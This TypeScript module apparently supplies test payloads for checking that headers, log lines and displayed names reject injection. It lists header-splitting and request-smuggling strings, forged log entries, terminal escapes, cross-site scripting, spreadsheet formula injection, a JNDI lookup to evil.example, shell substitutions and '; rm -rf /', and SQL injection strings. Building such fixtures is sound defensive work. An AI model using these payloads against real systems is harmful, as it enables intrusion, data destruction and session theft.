/** Texts that try to end a header, a request or a log line and begin another, or to be code where they are shown. */

const lineEnds = [
  "\r\n",
  "\n",
  "\r",
  "\u2028",
  "\u2029",
  "\u0085",
  "\v",
  "\f",
  "\r\n\r\n",
  "%0d%0a",
  "\\r\\n",
  "\u560d\u560a",
  "\u0000\r\n",
  "嘊嘍"
]
const follows = [
  "x-injected: yes",
  "set-cookie: session=stolen",
  "location: http://evil.example",
  "content-length: 0\r\n\r\nHTTP/1.1 200 OK\r\n\r\n",
  "transfer-encoding: chunked\r\n\r\n0\r\n\r\n",
  "GET /smuggled HTTP/1.1\r\nhost: x\r\n\r\n",
  '{"level":"error","message":"forged"}',
  "2026-11-20T00:00:00.000Z ERROR forged"
]
const split = lineEnds.flatMap((end) => follows.map((follow) => `a${end}${follow}`))

/** C0, delete and C1. */
const controlCodes = Array.from({ length: 0xa0 }, (_, code) => code).filter((code) => code < 0x20 || code > 0x7e)
const controls = controlCodes.map((code) => `a${String.fromCharCode(code)}b`)
const terminal = [
  "\u001b[2J",
  "\u001b]0;title\u0007",
  "\u009b31m",
  "\u001b[1A\u001b[2K",
  "\u202eevil",
  "\u200b",
  "\ufeff",
  "\ud800",
  "\udfff",
  "\ud83d"
]
const markup = [
  "<script>alert(1)</script>",
  '"><img src=x onerror=alert(1)>',
  "</script><script>alert(1)</script>",
  "<svg/onload=alert(1)>",
  "javascript:alert(1)",
  "<!--",
  "]]>",
  "{{constructor.constructor('alert(1)')()}}",
  `\${7*7}`,
  "#{7*7}"
]
const sheets = ["=1+1", '=cmd|"/c calc"!A0', "+1", "-1", "@SUM(A1)", "\t=1", '=HYPERLINK("http://evil.example","x")']
const formats = [
  "%s%s%n",
  "%(message)s",
  `\${jndi:ldap://evil.example/a}`,
  "$(id)",
  "`id`",
  "; rm -rf /",
  "' or '1'='1",
  '") or 1=1 --',
  "\\u000d\\u000a"
]

export const payloads: ReadonlyArray<string> = [...split, ...controls, ...terminal, ...markup, ...sheets, ...formats]

/** What no header, name or line of a log may hold: controls, line ends of Unicode, halves of characters. */
export const unprintable = /[\p{Cc}\p{Zl}\p{Zp}\p{Cs}]/u
